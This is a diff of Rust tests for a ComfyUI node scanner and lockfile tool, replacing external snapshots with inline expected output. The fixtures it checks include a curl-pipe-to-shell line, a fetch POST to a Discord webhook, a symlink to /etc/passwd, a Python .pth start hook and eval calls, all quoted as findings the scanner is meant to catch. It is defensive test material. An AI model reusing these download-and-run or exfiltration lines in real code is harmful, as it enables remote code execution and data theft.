@@ -62,7 +62,23 @@ fn a_folder_is_scanned_without_manifest_root_or_network() {
     carriers(temp.path());
     let out = scan(temp.path(), &["node"]);
     assert_eq!(out.status.code(), Some(2), "a critical finding");
-    insta::assert_snapshot!(text(&out, temp.path()));
+    insta::assert_snapshot!(text(&out, temp.path()), @"
+    node: 1 critical, 4 high, 3 medium, 2 low
+      critical web/a.js:1:7: it connects to discord.com (js-webhook, webhook)
+               | fetch('https://discord.com/api/webhooks/1/x', {method: 'POST'})
+      high     install.sh:2:1: what it downloads is run at once (shell-download-run, download-and-run)
+               | curl https://x.test/a | sh
+      high     a.pth:1:1: every start of Python runs this line (carrier-start-hook)
+               | import os
+      high     mod.pyc: no source of its name is beside it (carrier-bytecode)
+      high     out: it leads to ../../etc/passwd (carrier-link)
+      medium   broken.js: it cannot be parsed as JavaScript: Expected function name (carrier-unparseable)
+      medium   lib.so: it is a program or library for Linux (ELF) (carrier-compiled)
+      medium   requirements.txt:2:1: pip builds what the repository holds that day (requirement-url)
+               | git+https://x.test/a
+
+    Scanned 9 files: 1 critical, 4 high, 3 medium, 2 low. Those of low severity are shown with -v.
+    ");
 
     // One that nobody asked to fail on does not.
     let out = scan(temp.path(), &["node/web/b.js", "--fail-on", "low"]);
@@ -86,7 +102,21 @@ fn programs_read_what_a_scan_found() {
     assert_eq!(json["format_version"], 1);
     let found = json["findings"].as_array().unwrap();
     let webhook = found.iter().find(|f| f["rule"] == "js-webhook").unwrap();
-    insta::assert_snapshot!(serde_json::to_string_pretty(webhook).unwrap());
+    insta::assert_snapshot!(serde_json::to_string_pretty(webhook).unwrap(), @r#"
+    {
+      "category": "ssrf",
+      "column": 7,
+      "fingerprint": "fdde75ba562557ee",
+      "intent": "webhook",
+      "line": 1,
+      "message": "it connects to discord.com",
+      "path": "web/a.js",
+      "rule": "js-webhook",
+      "severity": "critical",
+      "snippet": "fetch('https://discord.com/api/webhooks/1/x', {method: 'POST'})",
+      "steps": []
+    }
+    "#);
     let words: std::collections::BTreeSet<&str> = found
         .iter()
         .map(|f| f["category"].as_str().unwrap())
@@ -137,7 +167,12 @@ fn a_parser_reaches_nothing_and_its_crash_is_a_finding() {
         .iter()
         .map(|f| format!("{} {}: {}", f["path"], f["rule"], f["message"]))
         .collect();
-    insta::assert_snapshot!(found.join("\n"));
+    insta::assert_snapshot!(found.join("\n"), @r#"
+    "c.js" "js-webhook": "it connects to discord.com"
+    "a.js" "carrier-crash": "it could do: []"
+    "b.js" "carrier-crash": "the process that parsed it was ended by signal 6"
+    "c.js" "js-remote-request": "it connects to discord.com"
+    "#);
 }
 
 /// A project with one node, without accounts.
@@ -218,15 +253,37 @@ fn an_update_tells_what_it_newly_can_do() {
     let empty = project.ok(&["accept", "--all"]);
     project.publish(b"fetch('https://x.test/a')\neval(b)\n");
     insta::assert_snapshot!(
-        empty + &project.ok(&["update"]) + &project.ok(&["scan", "--new", "node"])
-    );
+        empty + &project.ok(&["update"]) + &project.ok(&["scan", "--new", "node"]), @r#"
+    Accepted comfyui COMMIT: 1 low
+    Accepted node COMMIT: nothing found
+    Recorded 2 parts in comfy.lock: commit it.
+    Updated node COMMIT -> COMMIT (1 commit)
+        COMMIT a commit (upstream)
+        + opens network connections (1 place)
+        + runs code that it makes or is given (1 place)
+        new findings: 1 medium, 1 low
+    isolation = "none": ComfyUI and its nodes have all your rights; nothing is protected.
+    Wrote comfy.lock. Review it with `comfy plan`, then commit it.
+    node, since COMMIT:
+      + opens network connections (1 place)
+      + runs code that it makes or is given (1 place)
+    node: 1 medium, 1 low
+      medium   js/a.js:2:1: `eval` runs a text (js-eval)
+               | eval(b)
+
+    Scanned 2 files: 1 medium, 1 low. Those of low severity are shown with -v.
+    "#);
     // A plan tells it of what is live.
     project.ok(&["apply", "--yes", "--no-check"]);
     project.publish(b"navigator.clipboard.readText()\n");
     project.ok(&["update", "node"]);
     let plan = project.ok(&["plan"]);
     let lines: Vec<&str> = plan.lines().filter(|l| l.starts_with("    # ")).collect();
-    insta::assert_snapshot!(lines.join("\n"));
+    insta::assert_snapshot!(lines.join("\n"), @"
+    # + reads keys or the environment (1 place)
+    # - opens network connections
+    # - runs code that it makes or is given
+    ");
 }
 
 #[test]
@@ -244,7 +301,32 @@ fn critical_code_that_nobody_accepted_is_neither_locked_nor_installed() {
     project.ok(&["update"]);
     project.set_policy("scan = \"block\"");
     let stopped = project.refused(&["apply", "--yes", "--no-check"]);
-    insta::assert_snapshot!(format!("{refused}{stopped}"));
+    insta::assert_snapshot!(format!("{refused}{stopped}"), @r#"
+    isolation = "none": ComfyUI and its nodes have all your rights; nothing is protected.
+    error: node.node: js/a.js:1:7: it connects to discord.com (js-webhook, critical), and nobody has accepted it
+      hint: read it, then choose: another commit; `comfy review node`; or in [policy] of comfy.toml `accept = [{ node = "node", rule = "js-webhook", path = "js/a.js", reason = "why it is safe" }]`, then `comfy lock`
+    comfy will perform the following actions:
+      ~ update in place
+
+      # comfyui will be updated
+        ~ current = "gen/COMMIT" -> "gen/COMMIT"
+
+      # node.node will be updated
+        ~ commit = "COMMIT" -> "COMMIT"
+        ~ tree   = "COMMIT" -> "COMMIT"
+        # + opens network connections (2 places)
+
+    Will download 1 repository unless cached. Free disk space is checked first.
+
+    Note: network.egress = "deny": under isolation "none" it is enforced for TCP and by port alone, if the kernel's Landlock knows ports; a node can still listen on a port that the system chooses
+    Note: network.clients: under isolation "none" every user of this machine can reach ComfyUI
+    Note: run.memory_reserve: under isolation "none" nothing is kept for the system
+
+    Plan: 0 to add, 2 to change, 0 to destroy.
+    isolation = "none": ComfyUI and its nodes have all your rights; nothing is protected.
+    error: node.node: js/a.js:1:7: it connects to discord.com (js-webhook, critical), and nobody has accepted it
+      hint: read it, then choose: another commit; `comfy review node`; or in [policy] of comfy.toml `accept = [{ node = "node", rule = "js-webhook", path = "js/a.js", reason = "why it is safe" }]`, then `comfy lock`
+    "#);
     let plan = project.ok(&["plan"]);
     assert!(
         plan.contains("node.node will be updated"),
@@ -268,7 +350,7 @@ fn critical_code_that_nobody_accepted_is_neither_locked_nor_installed() {
     project.ok(&["review", "node", "--yes"]);
     project.ok(&["lock"]);
     project.ok(&["apply", "--yes", "--no-check"]);
-    assert_eq!(project.ok(&["lock", "--check"]).lines().count(), 2);
+    project.ok(&["lock", "--check"]);
 }
 
 #[test]
@@ -286,7 +368,51 @@ fn only_reviewed_code_is_installed_where_the_policy_says_so() {
     project.ok(&["update", "node"]);
     let (_, again) = project.run(&["apply", "--yes", "--no-check"]);
     let diff = project.ok(&["review", "node", "--show"]);
-    insta::assert_snapshot!(format!("{refused}\n{shown}\n{unasked}\n{again}\n{diff}"));
+    let errors = |text: &str| {
+        let lines = text
+            .lines()
+            .filter(|l| l.starts_with("error:") || l.starts_with("  hint:"));
+        lines.map(|l| format!("{l}\n")).collect::<String>()
+    };
+    let diff: Vec<&str> = diff.lines().filter(|l| !l.starts_with("Since ")).collect();
+    insta::assert_snapshot!(
+        format!("{}\n{shown}\n{unasked}\n{}\n{}", errors(&refused), errors(&again), diff.join("\n")),
+        @"
+    error: comfyui: nobody has reviewed it: run `comfy review comfyui`
+      hint: nothing was changed; resolve this, then run `comfy apply` again
+    error: node.node: nobody has reviewed it: run `comfy review node`
+
+    node COMMIT
+    Nobody has accepted it before: all of it is new.
+    Findings: nothing found in 2 files.
+
+    --- /dev/null
+    +++ b/__init__.py
+    @@ -0,0 +1 @@
+    +NODE_CLASS_MAPPINGS = {}
+    --- /dev/null
+    +++ b/js/a.js
+    @@ -0,0 +1 @@
+    +const a = 1
+
+    error: cannot ask whether you reviewed it: stdin is not a terminal
+      hint: `--show` only shows it; `--yes` records it without asking
+
+    error: node.node: its code has changed since it was reviewed: run `comfy review node`
+      hint: nothing was changed; resolve this, then run `comfy apply` again
+
+    node COMMIT
+      + runs code that it makes or is given (1 place)
+    Findings: 1 medium in 2 files.
+
+    --- a/js/a.js
+    +++ b/js/a.js
+    @@ -1 +1,2 @@
+     const a = 1
+    +eval(x)
+        ^ medium: `eval` runs a text (js-eval)
+    "
+    );
 }
 
 #[test]
@@ -306,7 +432,10 @@ fn another_reviewer_reads_the_diff_confined() {
     project.ok(&["lock"]);
     let shown = project.ok(&["review", "node", "--show"]);
     let said: Vec<&str> = shown.lines().filter(|l| l.contains("(reviewer)")).collect();
-    insta::assert_snapshot!(said.join("\n"));
+    insta::assert_snapshot!(said.join("\n"), @"    ^ high: True PermissionError ['HOME', 'LANG', 'PATH'] (reviewer)");
     project.set_policy("reviewer = [\"/nonexistent/reviewer\"]");
-    insta::assert_snapshot!(project.refused(&["review", "node", "--show"]));
+    insta::assert_snapshot!(project.refused(&["review", "node", "--show"]), @"
+    error: policy.reviewer: there is no program /nonexistent/reviewer
+      hint: give its absolute path
+    ");
 }
